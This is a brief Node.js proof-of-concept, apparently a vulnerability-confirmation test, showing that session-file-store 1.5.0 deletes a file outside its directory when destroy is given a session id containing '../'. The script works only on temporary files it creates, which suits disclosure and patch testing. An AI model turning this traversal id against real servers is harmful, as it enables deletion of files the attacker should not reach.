// STO-27, session-file-store 1.5.0: destroy of an id with .. removes a file outside
const need = require('module').createRequire(process.argv[2] + '/');
const session = need('express-session');
const os = require('os');
const { mkdtempSync, writeFileSync, existsSync } = require('fs');
const path = mkdtempSync(os.tmpdir() + '/confirmed-');
const Store = need('session-file-store')(session);
const store = new Store({ path, retries: 0, reapInterval: -1, logFn() {} });
const cookie = { originalMaxAge: 60000 };
const victim = `${path}-victim.json`;
writeFileSync(victim, '{}');
store.destroy(`../${victim.split('/').pop().slice(0, -5)}`, () =>
    process.exit(existsSync(victim) ? 1 : 0));
